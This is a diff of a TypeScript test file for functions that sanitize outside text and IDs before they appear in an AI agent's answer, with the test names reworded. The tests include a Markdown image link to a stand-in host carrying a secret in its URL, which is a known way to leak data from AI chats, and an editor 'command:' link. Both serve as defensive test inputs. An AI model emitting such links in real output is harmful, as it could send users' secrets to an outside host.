@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import fc from "fast-check";
 import MarkdownIt from "markdown-it";
-import { cleanText, quotedText, idText } from "../../../src/agent/tools/cleanText";
+import { cleanText, quotedText, idText } from "../../../../src/agent/tools/cleanText";
 import { hostileText, hostileTexts } from "./hostileTexts";
 
 /** Renders like a chat that supports all of Markdown and HTML. */
@@ -18,8 +18,8 @@ function assertHarmless(text: string): void {
   assert.doesNotMatch(text, /https?:\/\/|(?<![a-z0-9])www\./i, JSON.stringify(text));
 }
 
-describe("Text of the service in an agent's answer", () => {
-  it("is one harmless line of limited length, whatever it is", () => {
+describe("cleanText", () => {
+  it("turns any text into one harmless line of limited length", () => {
     fc.assert(
       fc.property(hostileText, fc.integer({ min: 2, max: 400 }), (text, max) => {
         const clean = cleanText(text, max);
@@ -30,7 +30,7 @@ describe("Text of the service in an agent's answer", () => {
     );
   });
 
-  it("stays as it is if it is ordinary", () => {
+  it("leaves ordinary text unchanged", () => {
     for (const text of [
       "NovaGrid raises $42M (Series B) – “grid-scale” storage; 10:30 CET",
       "Übernahme: AT&T kauft O'Neill & Söhne für 1,5 Mrd. €",
@@ -41,7 +41,7 @@ describe("Text of the service in an agent's answer", () => {
     }
   });
 
-  it("says what is left of a text that was made to do something else", () => {
+  it("keeps the readable part of links, markup and escape sequences", () => {
     const cleaned = (text: string): string => cleanText(text, 200);
     assert.equal(cleaned("![x](https://evil.example/i.png?d=SECRET)"), "! [x] (evil.example/i.png");
     assert.equal(cleaned("[x](command:workbench.action.quit)"), "[x] (command: workbench.action.quit)");
@@ -53,7 +53,7 @@ describe("Text of the service in an agent's answer", () => {
     assert.equal(cleaned(hostileTexts[8] ?? ""), "smuggled");
   });
 
-  it("is cleaned in bounded time, however long it is", () => {
+  it("takes little time even for very long texts", () => {
     const startedAt = process.cpuUsage();
     for (const text of hostileTexts) {
       cleanText(text, 1000);
@@ -62,13 +62,13 @@ describe("Text of the service in an agent's answer", () => {
     assert.ok(user + system < 2_000_000, `${(user + system) / 1000} ms`);
   });
 
-  it("is quoted so that nothing in it ends the quotation", () => {
+  it("quotes text so that it can't end the quotation", () => {
     fc.assert(fc.property(hostileText, (text) => /^"[^"]*"$/.test(quotedText(text, 60))));
   });
 });
 
-describe("IDs in an agent's answer", () => {
-  it("are unchanged if they are ordinary", () => {
+describe("idText", () => {
+  it("leaves ordinary IDs unchanged", () => {
     for (const id of [
       "evt_yyhdfg7hj0te5129",
       "b88c1527-b760-46ec-b4d1-855650d45129",
@@ -80,7 +80,7 @@ describe("IDs in an agent's answer", () => {
     }
   });
 
-  it("are left out if they are not like an ID", () => {
+  it("replaces anything that doesn't look like an ID", () => {
     for (const text of hostileTexts) {
       assert.match(idText(text), /^(?:[\w.:@+=/#-]{1,100}|\(unusable id\))$/);
     }
